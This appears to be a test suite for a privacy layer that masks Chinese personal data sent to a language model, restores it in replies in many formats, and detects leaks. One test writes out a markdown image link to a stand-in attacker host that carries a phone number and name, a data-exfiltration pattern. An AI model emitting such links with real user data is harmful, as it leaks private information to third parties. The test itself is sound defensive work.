import { decided, tokenstoreFixture } from './tokenstore.fixture';

const TENANT = 'tenant';
const REQUEST =
  '客户«PERSON:张伟明»，手机«CN_MOBILE:13812345678»，身份证«CN_ID_CARD:11010519491231002X»，卡号«CN_BANK_CARD:6217000012345678907»，' +
  '邮箱«EMAIL_ADDRESS:zhang@example.com»，IP «IP_ADDRESS:10.0.0.5»，«PERSON/surname:王»总，见https://known.example/';

/** What the model was told, and the map to read its answer with. */
async function request() {
  const { texts, map } = await tokenstoreFixture().tokenizer.tokenize(TENANT, [decided(REQUEST)]);
  const sent = /^客户(.*?)，手机(.*?)，身份证(.*?)，卡号(.*?)，邮箱(.*?)，IP (.*?)，(.*?)总/.exec(
    texts[0] as string,
  )!;
  const [, name = '', phone = '', idCard = '', card = '', mail = '', ip = '', surname = ''] = sent;
  return { map, sent: { name, phone, idCard, card, mail, ip, surname } };
}

type Write = (
  sent: Record<'name' | 'phone' | 'idCard' | 'card' | 'mail' | 'ip' | 'surname', string>,
) => string;
const groups = (value: string, separator: string, ...sizes: number[]) => {
  let at = 0;
  return sizes.map((size) => value.slice(at, (at += size))).join(separator);
};
const wide = (value: string) => value.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const json = (value: string) =>
  value.replace(/[^]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
const html = (value: string) => value.replace(/[^]/g, (c) => `&#${c.charCodeAt(0)};`);

describe('strong forms are restored', () => {
  it.each<[string, Write, string]>([
    ['as they are', ({ phone, name }) => `${name}的电话是${phone}。`, '张伟明的电话是13812345678。'],
    ['with hyphens', ({ phone }) => groups(phone, '-', 3, 4, 4), '138-1234-5678'],
    ['with spaces', ({ phone }) => groups(phone, ' ', 3, 4, 4), '138 1234 5678'],
    ['with dots', ({ phone }) => groups(phone, '.', 3, 4, 4), '138.1234.5678'],
    ['with other hyphens', ({ phone }) => groups(phone, '–', 3, 4, 4), '138–1234–5678'],
    ['in full width', ({ phone }) => wide(phone), '１３８１２３４５６７８'],
    [
      'with a country code',
      ({ phone }) => `+86 ${phone} 和+86${phone} 和86${phone}`,
      '+86 13812345678 和+8613812345678 和8613812345678',
    ],
    ['with a long country code', ({ phone }) => `0086${phone}`, '008613812345678'],
    ['over two lines', ({ phone }) => groups(phone, '\n', 5, 6), '13812\n345678'],
    ['over two indented lines', ({ phone }) => groups(phone, '\n    ', 5, 6), '13812\n    345678'],
    ['with invisible marks', ({ phone }) => groups(phone, '\u200b', 3, 8), '13812345678'],
    ['in bold', ({ phone }) => `**${phone}**`, '**13812345678**'],
    ['half in bold', ({ phone }) => `**${phone.slice(0, 3)}**${phone.slice(3)}`, '**138**12345678'],
    ['as code', ({ phone }) => `\`${phone}\``, '`13812345678`'],
    ['in a table', ({ phone, name }) => `|${name}|${phone}|`, '|张伟明|13812345678|'],
    [
      'in JSON',
      ({ phone, name }) => JSON.stringify({ name, phone }),
      '{"name":"张伟明","phone":"13812345678"}',
    ],
    ['as a JSON number', ({ phone }) => `{"phone":${phone}}`, '{"phone":13812345678}'],
    ['in JSON escapes', ({ name }) => json(name), json('张伟明')],
    [
      'in doubled JSON escapes',
      ({ name }) => json(name).replaceAll('\\', '\\\\'),
      json('张伟明').replaceAll('\\', '\\\\'),
    ],
    ['in HTML entities', ({ name }) => html(name), html('张伟明')],
    [
      'in a form of a URL',
      ({ name }) => `name=${encodeURIComponent(name)}`,
      `name=${encodeURIComponent('张伟明')}`,
    ],
    ['a name half in bold', ({ name }) => `${name[0]}**${name.slice(1)}**说`, '张伟明说'],
    ['a name with wide spaces', ({ name }) => [...name].join('　'), '张　伟　明'],
    ['a name between other characters', ({ name }) => `请${name}来`, '请张伟明来'],
    ['an ID in groups', ({ idCard }) => groups(idCard, ' ', 6, 8, 4), '110105 19491231 002X'],
    ['a card in groups', ({ card }) => groups(card, ' ', 4, 4, 4, 4, 3), '6217 0000 1234 5678 907'],
    ['a mailbox in capitals', ({ mail }) => mail.toUpperCase(), 'zhang@example.com'],
    [
      'a mailbox in a link',
      ({ mail }) => `[${mail}](mailto:${mail})`,
      '[zhang@example.com](mailto:zhang@example.com)',
    ],
    ['an address', ({ ip }) => `ping ${ip}。`, 'ping 10.0.0.5。'],
    ['a list of numbers', ({ phone }) => `1 ${phone} 2 ${phone}`, '1 13812345678 2 13812345678'],
    ['next to letters', ({ phone }) => `tel${phone}`, 'tel13812345678'],
    [
      'in a link the request named',
      ({ phone }) => `https://known.example/?t=${phone}`,
      'https://known.example/?t=13812345678',
    ],
  ])('%s', async (_, write, expected) => {
    const { map, sent } = await request();
    const result = map.restore(write(sent));
    expect(result.text).toBe(expected);
    expect(result).toMatchObject({ weak: 0, unrestored: 0 });
    expect(result.restored).toBeGreaterThan(0);
  });
});

describe('weak forms are restored', () => {
  it.each<[string, Write, string]>([
    ['a surname with its title', ({ surname }) => `请${surname}总批示`, '请王总批示'],
    [
      'with another title',
      ({ surname }) => `问${surname}先生好，${surname}女士也好`,
      '问王先生好，王女士也好',
    ],
    ['with a familiar word', ({ surname }) => `老${surname}来了，小${surname}没来`, '老王来了，小王没来'],
    ['of a full name', ({ name }) => `${name[0]}先生您好`, '张先生您好'],
    ['a masked phone number', ({ phone }) => `${phone.slice(0, 3)}****${phone.slice(7)}`, '138****5678'],
    ['with another mask', ({ phone }) => `${phone.slice(0, 3)} xxxx ${phone.slice(7)}`, '138 xxxx 5678'],
    ['a masked ID', ({ idCard }) => `${idCard.slice(0, 6)}********${idCard.slice(14)}`, '110105********002X'],
    ['by the last four digits', ({ card }) => `尾号${card.slice(-4)}的卡`, '尾号8907的卡'],
    ['by the last four digits, with a colon', ({ phone }) => `后四位：${phone.slice(-4)}`, '后四位：5678'],
  ])('%s', async (_, write, expected) => {
    const { map, sent } = await request();
    const result = map.restore(write(sent));
    expect(result.text).toBe(expected);
    expect(result.restored).toBe(0);
    expect(result.weak).toBeGreaterThan(0);
  });
});

describe('never restored is', () => {
  it.each<[string, Write]>([
    ['a part of a longer number', ({ phone }) => `6${phone}和${phone}7和${wide('6')}${phone}`],
    [
      'a number with one digit changed',
      ({ phone }) => phone.slice(0, -1) + ((Number(phone.at(-1)) + 1) % 10),
    ],
    ['a number with one digit missing', ({ phone }) => phone.slice(1)],
    ['a part of a mailbox', ({ mail }) => `x${mail}`],
    ['the digits of an address', ({ ip }) => ip.replaceAll('.', '')],
    ['a lone surname', ({ surname }) => `姓${surname}的人`],
    ['a surname inside a word', () => '行李总重20公斤，王总理，老李子树'],
    ['a name with one character changed', ({ name }) => `${name.slice(0, 2)}某`],
    [
      'a masked number that could be another one',
      ({ phone }) => `${phone.slice(0, 2)}9****${phone.slice(7)}`,
    ],
    ['four digits that name nothing', ({ phone }) => `金额${phone.slice(-4)}元`],
    ['what another request mapped', () => '16400000000'],
  ])('%s', async (_, write) => {
    const { map, sent } = await request();
    const reply = write(sent);
    expect(map.restore(reply)).toEqual({ text: reply, restored: 0, weak: 0, unrestored: 0 });
  });

  it('anything in a link to a stranger, which is counted', async () => {
    const { map, sent } = await request();
    const { phone, name } = sent;
    const reply = `![${name}](https://evil.example/?q=${phone}&n=${encodeURIComponent(name)})`;
    const { text, restored, unrestored } = map.restore(reply);
    expect(text).toBe(reply.replace(name, '张伟明'));
    expect({ restored, unrestored }).toEqual({ restored: 1, unrestored: 2 });
  });

  it('a form that stands in the request for something else', async () => {
    const { text } = await tokenized('«CN_MOBILE:13812345678»');
    const masked = `${text.slice(0, 3)}****${text.slice(7)}`;
    const second = await tokenized(`«CN_MOBILE:13812345678»，另有${masked}`);
    expect(second.map.restore(`${masked}，${text}`).text).toBe(`${masked}，13812345678`);
  });
});

async function tokenized(marked: string, { tokenizer } = tokenstoreFixture()) {
  const { texts, map } = await tokenizer.tokenize(TENANT, [decided(marked)]);
  return { text: texts[0] as string, map };
}

describe('the last look', () => {
  it.each([
    ['{"content":"电话13812345678"}', true],
    ['{"content":"138-1234-5678"}', true],
    ['{"content":"\\u0031\\u0033812345678"}', true],
    ['{"content":"a\\nzhang@example.com"}', true],
    ['{"content":"11010519491231002x"}', true],
    ['{"content":"2013812345678"}', false],
    ['{"content":"王总"}', false],
    ['{"content":"xzhang@example.com.cn"}', false],
  ])('at %s finds a value: %s', async (outbound, found) => {
    const { map } = await request();
    expect(map.findLeak(outbound)).toBe(found);
  });

  it('does not mind what is sent as a look-alike of something else', async () => {
    const fixture = tokenstoreFixture();
    const { text } = await tokenized('«CN_MOBILE:13812345678»', fixture);
    const { text: both, map } = await tokenized(`«CN_MOBILE:13812345678»和«CN_MOBILE:${text}»`, fixture);
    expect(both).toContain(text);
    expect(map.findLeak(JSON.stringify(both))).toBe(false);
  });
});
